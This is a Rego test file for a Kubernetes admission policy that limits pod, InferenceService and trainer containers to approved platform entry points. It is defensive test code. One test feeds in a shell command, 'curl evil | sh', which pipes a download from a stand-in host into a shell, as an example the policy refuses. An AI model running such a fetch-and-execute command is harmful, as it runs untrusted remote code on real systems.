package k8s.pods.entrypoint_test

import data.k8s.pods.entrypoint
import rego.v1

params := {"entrypoints": [["dagster", "api", "execute_step"], ["dagster", "api", "execute_run"]]}

pod(container) := {"parameters": params, "review": {"object": {"kind": "Pod", "spec": {"containers": [object.union({"name": "c"}, container)]}}}}

test_a_step_passes if {
	count(entrypoint.violations(pod({"args": ["dagster", "api", "execute_step"]}))) == 0
}

test_a_run_worker_with_its_arguments_passes if {
	count(entrypoint.violations(pod({"args": ["dagster", "api", "execute_run", "{}"]}))) == 0
}

test_a_shell_is_refused if {
	entrypoint.violations(pod({"command": ["/bin/sh", "-c"], "args": ["curl evil | sh"]})) == {{"msg": "container 'c' runs [\"/bin/sh\", \"-c\", \"curl evil | sh\"], not one of the platform's entry points"}}
}

test_a_command_before_the_platforms_args_is_refused if {
	count(entrypoint.violations(pod({"command": ["python", "-c", "x"], "args": ["dagster", "api", "execute_step"]}))) == 1
}

isvc(model) := {"parameters": params, "review": {"object": {"kind": "InferenceService", "spec": {"predictor": {"model": model}}}}}

test_a_predictor_runs_its_runtime if {
	count(entrypoint.violations(isvc({"modelFormat": {"name": "mlflow"}}))) == 0
}

test_a_predictor_with_a_command_is_refused if {
	entrypoint.violations(isvc({"command": ["sh"]})) == {{"msg": "container 'kserve-container' runs [\"sh\"] instead of its serving runtime"}}
}

trainer_params := object.union(params, {"trainer_entrypoint": ["python", "/opt/mlplat/runner.py"]})

trainer(container) := {"parameters": trainer_params, "review": {"object": {"kind": "Pod", "metadata": {"labels": {"mlplat/role": "trainer"}}, "spec": {"containers": [object.union({"name": "trainer"}, container)]}}}}

test_a_trainer_runs_the_platforms_runner if {
	count(entrypoint.violations(trainer({"command": ["python", "/opt/mlplat/runner.py"]}))) == 0
}

test_a_trainer_with_an_argument_more_is_refused if {
	entrypoint.violations(trainer({"command": ["python", "/opt/mlplat/runner.py"], "args": ["-c", "x"]})) == {{"msg": "container 'trainer' runs [\"python\", \"/opt/mlplat/runner.py\", \"-c\", \"x\"], not the platform's trainer runner [\"python\", \"/opt/mlplat/runner.py\"]"}}
}

test_a_trainer_running_a_dagster_step_is_refused if {
	count(entrypoint.violations(trainer({"args": ["dagster", "api", "execute_step"]}))) == 1
}

test_a_step_running_the_trainer_runner_is_refused if {
	count(entrypoint.violations({"parameters": trainer_params, "review": {"object": {"kind": "Pod", "spec": {"containers": [{"name": "c", "command": ["python", "/opt/mlplat/runner.py"]}]}}}})) == 1
}
